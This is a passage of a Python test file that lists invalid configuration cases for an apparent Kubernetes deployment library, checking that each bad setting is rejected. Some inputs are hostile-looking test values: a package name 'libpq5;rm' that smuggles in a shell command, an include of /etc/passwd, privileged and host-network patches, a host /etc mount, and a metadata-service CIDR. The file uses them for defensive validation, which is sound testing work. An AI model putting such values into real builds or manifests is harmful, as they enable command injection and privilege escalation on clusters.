    ("files-over-a-writable-folder", IMG + 'files={"/tmp": "config/app.yaml"})', "shop/dev/api", "files./tmp"),
    ("files-inside-the-secrets", IMG + 'files={"/run/secrets/app.yaml": "config/app.yaml"}, '
     'secrets={"TOKEN": SecretRef("s", "k")})', "shop/dev/api", "files./run/secrets/app.yaml"),
]
ALL_CASES += CONFIG_CASES
NGINX = 'image="nginx:1.27.3"'
PORT_CASES = [
    ("port-and-ports", WS + NGINX + ', port=80, ports={"http": 80})', "shop/dev/api", "port/ports"),
    ("neither-port-nor-ports", WS + NGINX + ")", "shop/dev/api", "port/ports"),
    ("empty-ports", WS + NGINX + ", ports={})", "shop/dev/api", "ports"),
    ("port-name-uppercase", WS + NGINX + ', ports={"HTTP": 80})', "shop/dev/api", "ports"),
    ("port-name-too-long", WS + NGINX + ', ports={"http-and-metrics1": 80})', "shop/dev/api", "ports"),
    ("port-name-digits-only", WS + NGINX + ', ports={"8080": 80})', "shop/dev/api", "ports"),
    ("two-names-one-port", WS + NGINX + ', ports={"http": 80, "web": 80})', "shop/dev/api", "ports.web"),
    ("named-port-out-of-range", WS + NGINX + ', ports={"http": 80, "grpc": 70000})', "shop/dev/api", "ports.grpc"),
    ("connects-to-an-unknown-port", WS + NGINX + ', ports={"http": 80})\nWorker(dev, "w", image="busybox:1.37.0", '
     'health=Health.none("consumes a queue and exits"), connects_to=[dev.node.find_child("api").on("grpc")])',
     "shop/dev/w", "connects_to"),
    ("connects-to-no-port", WS + NGINX + ', ports={"http": 80})\nWorker(dev, "w", image="busybox:1.37.0", '
     'health=Health.none("consumes a queue and exits"), connects_to=[dev.node.find_child("api").on()])',
     "shop/dev/w", "connects_to"),
]
PORT_CASES += [
    ("health-on-an-unknown-port", WS + NGINX + ', ports={"http": 80}, health=Health.http("/", port="admin"))',
     "shop/dev/api", "health.port"),
    ("health-host-not-a-name", WS + NGINX + ', port=80, health=Health.http("/", host="api example"))',
     "shop/dev/api", "health.host"),
    ("grpc-service-with-a-slash", WS + NGINX + ', port=80, health=Health.grpc("shop/Catalog"))', "shop/dev/api",
     "health.service"),
]
ALL_CASES += PORT_CASES
VOLUME_CASES = [
    ("read-write-once-with-three-replicas", 'WebService(prod, "api", ' + NGINX + ', port=80, '
     'volumes={"/data": Volume(size="1Gi")})', "shop/prod/api", "volumes./data.access_mode"),
    ("read-write-once-with-autoscaling", WS + NGINX + ', port=80, autoscale=Autoscale(min=1, max=4), '
     'volumes={"/data": Volume()})', "shop/dev/api", "volumes./data.access_mode"),
    ("read-write-many-without-a-class", WS + NGINX + ', port=80, volumes={"/data": Volume(access_mode='
     '"ReadWriteMany")})', "shop/dev/api", "volumes./data.storage_class"),
    ("volume-folder-relative", WS + NGINX + ', port=80, volumes={"data": Volume()})', "shop/dev/api", "volumes"),
    ("volume-folder-root", WS + NGINX + ', port=80, volumes={"/": Volume()})', "shop/dev/api", "volumes"),
    ("volume-size-in-gigabits", WS + NGINX + ', port=80, volumes={"/data": Volume(size="10Gb")})', "shop/dev/api",
     "volumes./data.size"),
    ("volume-access-mode-unknown", WS + NGINX + ', port=80, volumes={"/data": Volume(access_mode="ReadOnlyMany")})',
     "shop/dev/api", "volumes./data.access_mode"),
    ("volume-as-a-string", WS + NGINX + ', port=80, volumes={"/data": "10Gi"})', "shop/dev/api", "volumes./data"),
    ("volume-over-a-writable-folder", WS + NGINX + ', port=80, volumes={"/tmp": Scratch()})', "shop/dev/api",
     "writable_paths[0]"),
    ("two-folders-one-volume-name", WS + NGINX + ', port=80, volumes={"/data_a": Scratch(), "/data-a": Scratch()})',
     "shop/dev/api", "volumes./data-a"),
    ("quota-storage-below-the-volumes", 'team = SecureNamespace(dev, "team", quota=Quota(storage="5Gi"))\n'
     'WebService(team, "api", ' + NGINX + ', port=80, volumes={"/data": Volume(size="10Gi")})', "shop/dev/team",
     "quota.storage"),
    ("scratch-size-zero", WS + NGINX + ', port=80, volumes={"/cache": Scratch(size="0")})', "shop/dev/api",
     "volumes./cache.size"),
]
ALL_CASES += VOLUME_CASES
EXT = 'External(dev, "pay", '
EXTERNAL_CASES = [
    ("external-without-port", EXT + 'host="pay.example.com")', "shop/dev/pay", "port"),
    ("external-host-with-scheme", EXT + 'host="https://pay.example.com", port=443)', "shop/dev/pay", "host"),
    ("external-port-0", EXT + 'host="pay.example.com", port=0)', "shop/dev/pay", "port"),
    ("external-cidr-with-host-bits", EXT + 'host="pay.example.com", port=443, cidrs=["203.0.113.7/24"])',
     "shop/dev/pay", "cidrs[0]"),
    ("external-cidr-link-local", EXT + 'host="pay.example.com", port=443, cidrs=["169.254.0.0/16"])', "shop/dev/pay",
     "cidrs[0]"),
    ("external-cidr-everything", EXT + 'host="pay.example.com", port=443, cidrs=["0.0.0.0/0"])', "shop/dev/pay",
     "cidrs[0]"),
    ("external-bad-scheme", EXT + 'host="pay.example.com", port=443, scheme="https://")', "shop/dev/pay", "scheme"),
    ("external-secret-literal", EXT + 'host="pay.example.com", port=443, secrets={"KEY": "s3cr3t-value"})',
     "shop/dev/pay", "secrets.KEY"),
    ("external-clashes-with-a-service", EXT + 'host="pay.example.com", port=443, env_prefix="API")\n'
     'WebService(dev, "api", ' + NGINX + ', port=80)\nWorker(dev, "w", image="busybox:1.37.0", '
     'health=Health.none("consumes a queue and exits"), connects_to=[dev.node.find_child("api"), '
     'dev.node.find_child("pay")])', "shop/dev/w", "connects_to"),
    ("external-across-environments", EXT + 'host="pay.example.com", port=443)\n'
     'WebService(prod, "api", ' + NGINX + ', port=80, connects_to=[dev.node.find_child("pay")])', "shop/prod/api",
     "connects_to"),
]
ALL_CASES += EXTERNAL_CASES
RDS = 'External(dev, "rds", host="shop.c1x2y3.eu-west-1.rds.amazonaws.com", port=5432, '
PG_RDS = RDS + 'engine="postgres", '
API_MIGRATES = WS + NGINX + ', port=80, migrate=Migration(["migrate"]'
EXTERNAL_DATABASE_CASES = [
    ("external-user-without-engine", RDS + 'user="app")', "shop/dev/rds", "user"),
    ("external-tls-without-engine", RDS + "tls=True)", "shop/dev/rds", "tls"),
    ("external-engine-misspelled", RDS + 'engine="postgresql")', "shop/dev/rds", "engine"),
    ("external-database-bad-user", PG_RDS + 'user="App User")', "shop/dev/rds", "user"),
    ("external-database-for-redis", RDS.replace("5432", "6379") + 'engine="redis", database="cache")',
     "shop/dev/rds", "database"),
    ("external-database-with-scheme", PG_RDS + 'scheme="postgres")', "shop/dev/rds", "scheme"),
    ("external-database-ca-without-tls", PG_RDS + 'tls=False, tls_ca=SecretRef("rds-ca", "ca.pem"))', "shop/dev/rds",
     "tls_ca"),
    ("external-database-password-env-without-password", PG_RDS + 'password=None, password_env="the ORM reads only '
     'DB_URL")', "shop/dev/rds", "password_env"),
    ("external-database-password-env-with-a-comma", PG_RDS + 'password_env="the ORM reads only DB_URL, sadly")',
     "shop/dev/rds", "password_env"),
    ("external-database-secret-named-password", PG_RDS + 'secrets={"PASSWORD": SecretRef("rds", "pw")})',
     "shop/dev/rds", "secrets.PASSWORD"),
    ("migration-two-databases-unnamed", PG_RDS + ')\nStatefulDB(dev, "db", engine="postgres", version="16")\n'
     + API_MIGRATES + '), connects_to=[dev.node.find_child("rds"), dev.node.find_child("db")])', "shop/dev/api",
     "migrate"),
    ("migration-external-database-without-engine", RDS + ')\nStatefulDB(dev, "cache", engine="redis", version="7.4")\n'
     + API_MIGRATES + '), connects_to=[dev.node.find_child("rds"), dev.node.find_child("cache")])', "shop/dev/api",
     "migrate"),
    ("migration-names-a-cache", 'c = StatefulDB(dev, "cache", engine="redis", version="7.4")\n' + API_MIGRATES
     + ', connects_to=[c]), connects_to=[c])', "shop/dev/api", "migrate.connects_to"),
    ("migration-names-a-database-the-service-lacks", 'db = StatefulDB(dev, "db", engine="postgres", version="16")\n'
     + API_MIGRATES + ", connects_to=[db]))", "shop/dev/api", "migrate.connects_to"),
]
ALL_CASES += EXTERNAL_DATABASE_CASES
BUILD_CASES = [
    ("build-package-with-a-space", WS + 'build=Build.python("py", ["x"], build_packages=["gcc make"]), port=80)',
     "shop/dev/api", "build.build_packages[0]"),
    ("runtime-package-shell-injection", WS + 'build=Build.python("py", ["x"], runtime_packages=["libpq5;rm"]), '
     'port=80)', "shop/dev/api", "build.runtime_packages[0]"),
    ("runtime-packages-on-scratch", WS + 'build=Build.go("go", runtime_packages=["libc6"]), port=80)',
     "shop/dev/api", "build.runtime_packages"),
    ("build-arg-credential", WS + 'build=Build.python("py", ["x"], args={"NPM_TOKEN": "abc"}), port=80)',
     "shop/dev/api", "build.args.NPM_TOKEN"),
    ("build-arg-with-a-quote", WS + 'build=Build.python("py", ["x"], args={"FLAVOR": "a\\"b"}), port=80)',
     "shop/dev/api", "build.args.FLAVOR"),
    ("build-arg-bad-name", WS + 'build=Build.python("py", ["x"], args={"1X": "a"}), port=80)', "shop/dev/api",
     "build.args"),
]
BUILD_CASES += [
    ("own-dockerfile-missing", WS + 'build=Build.dockerfile("own/Nope.Dockerfile"), port=80)', "shop/dev/api",
     "build.dockerfile"),
    ("own-dockerfile-absolute", WS + 'build=Build.dockerfile("/etc/Dockerfile"), port=80)', "shop/dev/api",
     "build.dockerfile"),
    ("own-dockerfile-runs-as-root", WS + 'build=Build.dockerfile("own/root.Dockerfile"), port=80)', "shop/dev/api",
     "build.dockerfile"),
    ("own-dockerfile-other-user", WS + 'build=Build.dockerfile("own/Dockerfile"), port=80, run_as_user=20000)',
     "shop/dev/api", "build.dockerfile"),
]
DIGEST_A = '"sha256:' + "a" * 64 + '"'
BUILD_CASES += [
    ("distroless-python", WS + 'build=Build.python("py", ["x"], runtime="distroless"), port=80)', "shop/dev/api",
     "build.runtime"),
    ("distroless-with-runtime-packages", WS + 'build=Build.node("node", ["node", "s.js"], runtime="distroless", '
     f'runtime_digest={DIGEST_A}, runtime_packages=["libpq5"]), port=80)', "shop/dev/api", "build.runtime_packages"),
    ("runtime-digest-on-debian", WS + f'build=Build.node("node", ["node", "s.js"], runtime_digest={DIGEST_A}), '
     'port=80)', "shop/dev/api", "build.runtime_digest"),
    ("distroless-go", WS + 'build=Build.go("go", runtime="distroless"), port=80)', "shop/dev/api", "build.runtime"),
    ("runtime-unknown", WS + 'build=Build.node("node", ["node", "s.js"], runtime="alpine"), port=80)', "shop/dev/api",
     "build.runtime"),
]
ALL_CASES += BUILD_CASES
API = 'api = WebService(dev, "api", ' + NGINX + ', port=80)\n'
ESCAPE_HATCH_CASES = [
    ("annotation-key-with-two-slashes", API + 'api.deployment.add_annotations({"a/b/c": "x"})', "shop/dev/api",
     "Deployment.annotations"),
    ("annotation-value-not-a-string", API + 'api.service.add_annotations({"acme.com/port": 8080})', "shop/dev/api",
     "Service.annotations.acme.com/port"),
    ("label-shipform-selects-by", API + 'api.deployment.add_labels({"app.kubernetes.io/name": "other"})',
     "shop/dev/api", "Deployment.labels"),
    ("label-value-with-a-space", API + 'api.deployment.add_labels({"team": "check out"})', "shop/dev/api",
     "Deployment.labels.team"),
    ("include-missing-file", 'dev.include("k8s/missing.yaml")', "shop/dev", "include"),
    ("include-absolute-path", 'dev.include("/etc/passwd")', "shop/dev", "include"),
    ("include-outside-the-app", 'dev.include("../elsewhere.yaml")', "shop/dev", "include"),
    ("include-not-yaml", 'dev.include("config/broken.yaml")', "shop/dev", "include"),
    ("include-not-an-object", 'dev.include("config/app.yaml")', "shop/dev", "include"),
    ("include-a-secret-with-values", 'dev.include("config/secret.yaml")', "shop/dev", "include"),
    ("patch-makes-a-container-privileged", API + 'api.deployment.add_json_patch({"op": "add", "path": '
     '"/spec/template/spec/containers/0/securityContext/privileged", "value": True})', "shop/dev/api/Deployment",
     "/spec/template/spec/containers/0/securityContext/privileged"),
    ("patch-shares-the-host-network", API + 'api.deployment.add_json_patch({"op": "add", "path": '
     '"/spec/template/spec/hostNetwork", "value": True})', "shop/dev/api/Deployment",
     "/spec/template/spec/hostNetwork"),
    ("patch-mounts-a-host-folder-on-a-cron-job", CJ + 'schedule="@daily").cron_job.add_json_patch({"op": "add", '
     '"path": '
     '"/spec/jobTemplate/spec/template/spec/volumes/-", "value": {"name": "etc", "hostPath": {"path": "/etc"}}})',
     "shop/dev/report/CronJob", "/spec/jobTemplate/spec/template/spec/volumes/1/hostPath"),
    ("patch-accepted-by-one-of-its-checks-only", 'api = WebService(dev, "api", ' + NGINX + ', port=80, '
     'accepted_risks={"CKV_K8S_16": "the vendor agent needs it"})\napi.deployment.add_json_patch({"op": "add", '
     '"path": "/spec/template/spec/containers/0/securityContext/privileged", "value": True})',
     "shop/dev/api/Deployment", "/spec/template/spec/containers/0/securityContext/privileged"),
    ("writable-root-without-a-reason", WS + NGINX + ', port=80, read_only_root_filesystem=False)', "shop/dev/api",
     "read_only_root_filesystem"),
    ("writable-root-stated-for-checkov-only", WS + NGINX + ', port=80, read_only_root_filesystem=False, '
     'accepted_risks={"CKV_K8S_22": "nginx writes its cache"})', "shop/dev/api", "read_only_root_filesystem"),
    ("accepted-risk-rule-in-the-wrong-case", WS + NGINX + ', port=80, accepted_risks={"hostnetwork": '
     '"the agent reads the node"})', "shop/dev/api", "accepted_risks"),
]
ALL_CASES += ESCAPE_HATCH_CASES
EXPOSURE_CASES = [
    ("expose-unknown", WS + NGINX + ', port=80, expose="public")', "shop/dev/api", "expose"),
    ("source-ranges-without-exposure", WS + NGINX + ', port=80, source_ranges=["203.0.113.0/24"])', "shop/dev/api",
     "source_ranges"),
    ("source-range-with-host-bits", WS + NGINX + ', port=80, expose="load-balancer", source_ranges=["10.0.0.1/8"])',
     "shop/dev/api", "source_ranges[0]"),
    ("load-balancer-over-the-quota", 'team = SecureNamespace(dev, "team")\nWebService(team, "api", ' + NGINX +
     ', port=80, expose="load-balancer")', "shop/dev/team", "quota.load_balancers"),
    ("node-ports-over-the-quota", 'team = SecureNamespace(dev, "team", quota=Quota(node_ports=1))\n'
     'WebService(team, "api", ' + NGINX + ', ports={"a": 80, "b": 81}, expose="node-port")', "shop/dev/team",
     "quota.node_ports"),
    ("gateway-without-namespace", 'Environment(app, "stage", gateway="public")', "shop/stage", "gateway"),
    ("ingress-pods-bad-label", 'Environment(app, "stage", ingress_pods={"app": "a b"})', "shop/stage", "ingress_pods"),
    ("ingress-pods-empty", 'Environment(app, "stage", ingress_pods={})', "shop/stage", "ingress_pods"),
]
ALL_CASES += EXPOSURE_CASES
S3 = 'StatefulDB(dev, "db", engine="postgres", version="16", backup=Backup(schedule="@daily", to=S3Target("acme-bk", ' \
     'SecretRef("s3", "credentials"), cidrs='
ALL_CASES += [
    ("s3-cidr-with-host-bits", S3 + '("10.0.0.1/8",))))', "shop/dev/db", "backup.to.cidrs[0]"),
    ("s3-cidr-metadata", S3 + '("169.254.169.254/32",))))', "shop/dev/db", "backup.to.cidrs[0]"),
]
NA = 'NodeAgent(dev, "agent", image="busybox:1.37.0", '
HOST_NS = ('ns = SecureNamespace(dev, "agents", host_access="the agent reads each node\'s files", '
           'quota=Quota(cpu_limit="16"))\n')
NA_NS = 'NodeAgent(ns, "agent", image="busybox:1.37.0", health=Health.exec(["true"]), '
NODE_AGENT_CASES = [
    ("node-agent-without-health", NA + ')', "shop/dev/agent", "health"),
    ("node-agent-http-health", NA + 'health=Health.http("/"))', "shop/dev/agent", "health"),
    ("node-agent-host-path-without-host-access", NA + 'health=Health.exec(["true"]), '
     'host_paths={"/host/log": HostPath("/var/log")})', "shop/dev/agent", "host_paths/host_network"),
    ("node-agent-host-network-without-host-access", NA + 'health=Health.exec(["true"]), host_network=True)',
     "shop/dev/agent", "host_paths/host_network"),
    ("node-agent-host-path-relative", 'ns = SecureNamespace(dev, "agents", host_access="reads each node\'s logs")\n'
     'NodeAgent(ns, "agent", image="busybox:1.37.0", health=Health.exec(["true"]), '
     'host_paths={"/host/log": HostPath("var/log")})', "shop/dev/agents/agent", "host_paths./host/log.path"),
    ("host-access-without-a-reason", 'SecureNamespace(dev, "agents", host_access="logs")', "shop/dev/agents",
     "host_access"),
    ("toleration-value-without-key", NA + 'health=Health.exec(["true"]), tolerations=[Toleration(value="gpu")])',
     "shop/dev/agent", "tolerations[0].value"),
    ("toleration-bad-effect", NA + 'health=Health.exec(["true"]), tolerations=[Toleration("a", effect="Never")])',
     "shop/dev/agent", "tolerations[0].effect"),
    ("node-agent-max-unavailable-zero", NA + 'health=Health.exec(["true"]), max_unavailable=0)', "shop/dev/agent",
     "max_unavailable"),
    ("node-selector-bad-value", NA + 'health=Health.exec(["true"]), node_selector={"pool": "a b"})',
     "shop/dev/agent", "node_selector"),
    ("node-agent-writable-etc-without-a-reason", HOST_NS + NA_NS + 'host_paths={"/host/etc": HostPath("/etc", '
     'writable=True)})', "shop/dev/agents/agent", "host_paths./host/etc.writable"),
    ("node-agent-reason-for-a-read-only-folder", HOST_NS + NA_NS + 'host_paths={"/host/log": HostPath("/var/log", '
     'reason="reads the node logs only")})', "shop/dev/agents/agent", "host_paths./host/log.reason"),
    ("node-agent-writable-reason-with-a-comma", HOST_NS + NA_NS + 'host_paths={"/host/state": HostPath("/var/lib/a", '
     'writable=True, reason="keeps state, positions")})', "shop/dev/agents/agent", "host_paths./host/state.reason"),
    ("node-agent-writable-not-a-bool", HOST_NS + NA_NS + 'host_paths={"/host/state": HostPath("/var/lib/a", '
     'writable="yes")})', "shop/dev/agents/agent", "host_paths./host/state.writable"),
    # Most network plugins apply no NetworkPolicy to host-network pods: traffic declared as if confined needs a reason.
    ("node-agent-host-network-with-connects-to-an-external", HOST_NS + 'saas = External(dev, "saas", '
     'host="api.saas.example.com", port=443)\n' + NA_NS + 'host_network=True, connects_to=[saas])',
     "shop/dev/agents/agent", "host_network"),
    ("node-agent-host-network-with-connects-to-a-service", HOST_NS + 'api = WebService(ns, "api", '
     'image="nginx:1.27.3", port=80)\n' + NA_NS + 'host_network=True, connects_to=[api])', "shop/dev/agents/agent",
     "host_network"),
    ("node-agent-host-network-accepted-by-the-namespace-only", HOST_NS + 'api = WebService(ns, "api", '
     'image="nginx:1.27.3", port=80)\n' + NA_NS + 'host_network=True, connects_to=[api], '
     'accepted_risks={"CKV_K8S_19": "the agent shares the node network"})', "shop/dev/agents/agent", "host_network"),
]
ALL_CASES += NODE_AGENT_CASES
# The namespace's own 'default' ServiceAccount (it mounts no token) takes the name from workloads.
ALL_CASES.append(("workload-named-default", 'WebService(dev, "default", ' + NGINX + ', port=80)', "shop/dev",
                  "objects"))
ALL_CASES.append(("secret-key-not-ascii",
                  WS + 'image="nginx:1.27.3", port=80, secrets={"TOKEN": SecretRef("s", "clé")})', "shop/dev/api",
                  "secrets.TOKEN.key"))

# Composites: workloads inside a plain construct are named from their path below the namespace.
CC = "from constructs import Construct\n"
COMPOSITE_CASES = [
    ("nested-name-clashes-with-a-direct-one", CC + 'orders = Construct(dev, "orders")\n'
     'WebService(orders, "api", ' + NGINX + ', port=80)\nWebService(dev, "orders-api", ' + NGINX + ', port=81)',
     "shop/dev/orders-api", "id"),
    ("nested-name-starts-with-a-digit", CC + 'WebService(Construct(dev, "9lives"), "api", ' + NGINX + ', port=80)',
     "shop/dev/9lives/api", "id"),
    ("explicit-name-not-a-label", 'WebService(dev, "api", name="Orders API", ' + NGINX + ', port=80)',
     "shop/dev/api", "name"),
    ("explicit-name-too-long-for-a-service", 'WebService(dev, "api", name="' + "a" * 64 + '", ' + NGINX + ', port=80)',
     "shop/dev/api", "name"),
    ("explicit-db-name-too-long-for-its-backup", CC + 'StatefulDB(Construct(dev, "c"), "db", name="' + "d" * 46
     + '", engine="postgres", version="16", backup=Backup(schedule="@daily"))', "shop/dev/c/db", "name"),
    ("explicit-name-not-a-string", 'WebService(dev, "api", name=7, ' + NGINX + ', port=80)', "shop/dev/api", "name"),
]
ALL_CASES += COMPOSITE_CASES

S3 = 'backup=Backup(schedule="@daily", to=S3Target(bucket="shop", credentials=SecretRef("s3", "c"), '
BACKUP_ENCRYPTION_CASES = [
    ("backup-encryption-unknown", PG + S3 + 'encryption="aes256")))', "shop/dev/db", "backup.to.encryption"),
    ("backup-kms-key-without-kms", PG + S3 + 'kms_key="alias/backups")))', "shop/dev/db", "backup.to.kms_key"),
    ("backup-kms-key-with-a-space", PG + S3 + 'encryption="aws:kms", kms_key="my key")))', "shop/dev/db",
     "backup.to.kms_key"),
]
ALL_CASES += BACKUP_ENCRYPTION_CASES

DISK_AND_COUNT_CASES = [
    ("ephemeral-storage-in-thousandths", WS + 'image="nginx:1.27.3", port=80, '
     'resources=Resources(ephemeral_storage="128m"))', "shop/dev/api", "resources.ephemeral_storage"),
    ("quota-ephemeral-storage-not-a-quantity", 'SecureNamespace(dev, "team", quota=Quota(ephemeral_storage="lots"))',
     "shop/dev/team", "quota.ephemeral_storage"),
    ("quota-configmaps-zero", 'SecureNamespace(dev, "team", quota=Quota(configmaps=0))', "shop/dev/team",
     "quota.configmaps"),
    ("quota-services-too-few", 'team = SecureNamespace(dev, "team", quota=Quota(services=1))\n'
     'StatefulDB(team, "db", engine="redis", version="7.4")', "shop/dev/team", "quota.services"),
]
ALL_CASES += DISK_AND_COUNT_CASES
ALL_CASES.append(("build-secret-unknown", 'App("two", registry="ghcr.io/acme", build_secrets=["gitconfig"])', "two",
                  "build_secrets"))
# Retention (App(keep_images_days=...)): whole days, at least one (a pushed tag waits for its lock entry).
ALL_CASES += [(f"keep-images-days-{name}", f'App("two", registry="ghcr.io/acme", keep_images_days={value})', "two",
               "keep_images_days") for name, value in (("zero", "0"), ("a-string", '"30"'), ("true", "True"),
                                                       ("over-ten-years", "3651"), ("a-fraction", "1.5"))]
ALL_CASES += [
    ("tls-on-an-engine-without-it", 'StatefulDB(dev, "db", engine="mongodb", version="8.0", tls="db-tls")',
     "shop/dev/db", "tls"),
    ("tls-secret-not-a-name", PG + 'tls="DB TLS")', "shop/dev/db", "tls"),
]
# TLS by default between databases and their clients in Environments that are not local (model/database_tls.py).
STAGE = 'stage = Environment(app, "stage"'
ALL_CASES += [
    ("database-without-issuer-or-reason",
     STAGE + ', data_storage=DS)\nStatefulDB(stage, "db", engine="postgres", version="16")',
     "shop/stage", "tls_issuer"),
    ("plain-databases-without-a-reason", STAGE + ', plain_databases="no")', "shop/stage", "plain_databases"),
    ("plain-databases-on-two-lines", STAGE + ', plain_databases="a test cluster\\nwith no tenants")', "shop/stage",
     "plain_databases"),
    ("plain-databases-and-an-issuer", STAGE + ', plain_databases="a test cluster with no tenants", '
     'tls_issuer=Issuer(name="internal-ca"))', "shop/stage", "plain_databases"),
    ("issuer-name-not-a-name", STAGE + ', tls_issuer=Issuer(name="Internal CA"))', "shop/stage", "tls_issuer.name"),
    ("issuer-kind-unknown", STAGE + ', tls_issuer=Issuer(name="ca", kind="CertificateIssuer"))', "shop/stage",
     "tls_issuer.kind"),
    ("issuer-group-not-a-name", STAGE + ', tls_issuer=Issuer(name="ca", group="cert manager"))', "shop/stage",
     "tls_issuer.group"),
    ("issuer-unknown-field", STAGE + ', tls_issuer=Issuer(name="ca", namespace="cert-manager"))', "shop/stage",
     "tls_issuer.namespace"),
    ("database-without-tls-outside-a-mesh", STAGE + ', tls_issuer=Issuer(name="ca"), data_storage=DS)\n'
     'StatefulDB(stage, "db", engine="mongodb", version="8.0")', "shop/stage/db", "engine"),
]

MON = 'Environment(app, "stage", monitoring=Monitoring('
MESHED = ('meshed = Environment(app, "meshed", mesh=Mesh(kind="linkerd"), monitoring=Monitoring())\n'
          'ns = SecureNamespace(meshed, "shop", mesh="linkerd")\n')
METRICS_CASES = [
    ("metrics-port-not-declared", WS + 'image="nginx:1.27.3", port=80, metrics=Metrics())', "shop/dev/api",
     "metrics.port"),
    ("metrics-path-relative", WS + 'image="nginx:1.27.3", ports={"http": 80, "metrics": 9090}, '
     'metrics=Metrics(path="metrics"))', "shop/dev/api", "metrics.path"),
    ("metrics-interval-in-words", WS + 'image="nginx:1.27.3", ports={"http": 80, "metrics": 9090}, '
     'metrics=Metrics(interval="half a minute"))', "shop/dev/api", "metrics.interval"),
    ("metrics-not-a-metrics", WS + 'image="nginx:1.27.3", port=80, metrics="/metrics")', "shop/dev/api", "metrics"),
    ("monitoring-namespace-not-a-label", MON + 'namespace="Monitoring"))', "shop/stage", "monitoring.namespace"),
    ("monitoring-without-pod-labels", MON + 'pods={}))', "shop/stage", "monitoring.pods"),
    # In a mesh Prometheus (no sidecar) must scrape a port no client calls, or that port loses per-client checks.
    ("metrics-on-the-main-port-in-a-mesh", MESHED + 'WebService(ns, "api", image="nginx:1.27.3", port=8000, '
     'metrics=Metrics(port="http"))', "shop/meshed/shop/api", "metrics.port"),
    ("metrics-port-a-client-calls-in-a-mesh", MESHED + 'api = WebService(ns, "api", image="nginx:1.27.3", '
     'ports={"http": 8000, "metrics": 9090}, metrics=Metrics())\nWorker(ns, "w", image="busybox:1.37.0", '
     'health=Health.exec(["true"]), connects_to=[api.on("metrics")])', "shop/meshed/shop/api", "metrics.port"),
]
ALL_CASES += METRICS_CASES
ALL_CASES += [
    ("autoscale-memory-percent-zero", WS + 'image="nginx:1.27.3", port=80, autoscale=Autoscale(memory_percent=0))',
     "shop/dev/api", "autoscale.memory_percent"),
    ("autoscale-scale-down-an-hour-and-more", WS + 'image="nginx:1.27.3", port=80, '
     'autoscale=Autoscale(scale_down_seconds=7200))', "shop/dev/api", "autoscale.scale_down_seconds"),
    ("autoscale-scale-down-percent-over-100", WS + 'image="nginx:1.27.3", port=80, '
     'autoscale=Autoscale(scale_down_percent=150))', "shop/dev/api", "autoscale.scale_down_percent"),
    ("recommend-resources-not-a-bool", WS + 'image="nginx:1.27.3", port=80, recommend_resources="yes")',
     "shop/dev/api", "recommend_resources"),
]
ALL_CASES += [
    ("rolling-that-can-never-start", WS + 'image="nginx:1.27.3", port=80, strategy=Rolling(max_surge=0))',
     "shop/dev/api", "strategy"),
    ("rolling-surge-in-words", WS + 'image="nginx:1.27.3", port=80, strategy=Rolling(max_surge="half"))',
     "shop/dev/api", "strategy.max_surge"),
]
ALL_CASES += [
    ("telemetry-endpoint-without-port", 'Environment(app, "stage", telemetry=Telemetry(endpoint="http://collector"))',
     "shop/stage", "telemetry.endpoint"),
    ("telemetry-protocol-unknown", 'Environment(app, "stage", telemetry=Telemetry(protocol="udp"))', "shop/stage",
     "telemetry.protocol"),
]
ARGO = 'argo = Environment(app, "stage", rollouts="argo")\n'
ARGO_WS = ARGO + 'WebService(argo, "api", image="nginx:1.27.3", port=80, '
ROLLOUT_CASES = [
    ("canary-without-a-controller", WS + 'image="nginx:1.27.3", port=80, strategy=Canary())', "shop/dev/api",
     "strategy"),
    ("canary-weights-fall", ARGO_WS + 'strategy=Canary(steps=[50, "5m", 20]))', "shop/stage/api", "strategy.steps"),
    ("canary-weight-over-100", ARGO_WS + 'strategy=Canary(steps=[20, 150]))', "shop/stage/api", "strategy.steps[1]"),
    ("canary-weight-zero", ARGO_WS + 'strategy=Canary(steps=[0, "5m"]))', "shop/stage/api", "strategy.steps[0]"),
    ("canary-without-weights", ARGO_WS + 'strategy=Canary(steps=["5m"]))', "shop/stage/api", "strategy.steps"),
    ("canary-pause-in-words", ARGO_WS + 'strategy=Canary(steps=[20, "five minutes"]))', "shop/stage/api",
     "strategy.steps[1]"),
    ("canary-weight-as-float", ARGO_WS + 'strategy=Canary(steps=[20.5]))', "shop/stage/api", "strategy.steps[0]"),
    ("blue-green-on-a-worker", ARGO + 'Worker(argo, "w", image="busybox:1.37.0", command=["sleep", "1d"], '
     'health=Health.exec(["true"]), strategy=BlueGreen())', "shop/stage/w", "strategy"),
    ("blue-green-promote-after-a-week", ARGO_WS + 'strategy=BlueGreen(auto_promote_seconds=604800))',
     "shop/stage/api", "strategy.auto_promote_seconds"),
    ("analysis-without-prometheus", ARGO_WS + 'strategy=Canary(analysis=Analysis(query="up")))', "shop/stage/api",
     "strategy.analysis"),
    ("analysis-that-can-never-fail", ARGO_WS + 'strategy=BlueGreen(analysis=Analysis(query="up", count=2, '
     'failure_limit=2)))', "shop/stage/api", "strategy.analysis.failure_limit"),
    ("analysis-interval-in-days", ARGO_WS + 'strategy=Canary(analysis=Analysis(query="up", interval="1d")))',
     "shop/stage/api", "strategy.analysis.interval"),
    ("analysis-empty-query", ARGO_WS + 'strategy=Canary(analysis=Analysis(query=" ")))', "shop/stage/api",
     "strategy.analysis.query"),
    ("canary-with-a-single-node-volume", ARGO_WS + 'strategy=Canary(), volumes={"/data": Volume(size="1Gi")})',
     "shop/stage/api", "volumes./data.access_mode"),
    ("rollouts-controller-unknown", 'Environment(app, "stage", rollouts="flagger")', "shop/stage", "rollouts"),
    ("monitoring-address-without-port", 'Environment(app, "stage", monitoring=Monitoring(address="http://prom"))',
     "shop/stage", "monitoring.address"),
]
ALL_CASES += ROLLOUT_CASES
KEDA = ('k = Environment(app, "stage", keda=Keda(), tls_issuer=Issuer(name="internal-ca"), data_storage=DS)\n'
        'q = StatefulDB(k, "queue", engine="redis", version="7.4")\n'
        'pg = StatefulDB(k, "db", engine="postgres", version="16")\n'
        'rabbit = External(k, "rabbit", host="rabbit.example.com", port=5671,\n'
        '  secrets={"URL": SecretRef("r", "url")})\n')
KEDA_W = KEDA + 'Worker(k, "w", image="busybox:1.37.0", command=["sleep", "1d"], health=Health.exec(["true"]), '
QUEUE_CASES = [
    ("queue-trigger-without-its-connection", KEDA_W + 'scale_on=Queue(on=q, name="jobs"))', "shop/stage/w",
     "scale_on.on"),
    ("queue-without-keda", 'q = StatefulDB(dev, "queue", engine="redis", version="7.4")\n'
     'Worker(dev, "w", image="busybox:1.37.0", command=["sleep", "1d"], health=Health.exec(["true"]), '
     'connects_to=[q], scale_on=Queue(on=q, name="jobs"))', "shop/dev/w", "scale_on"),
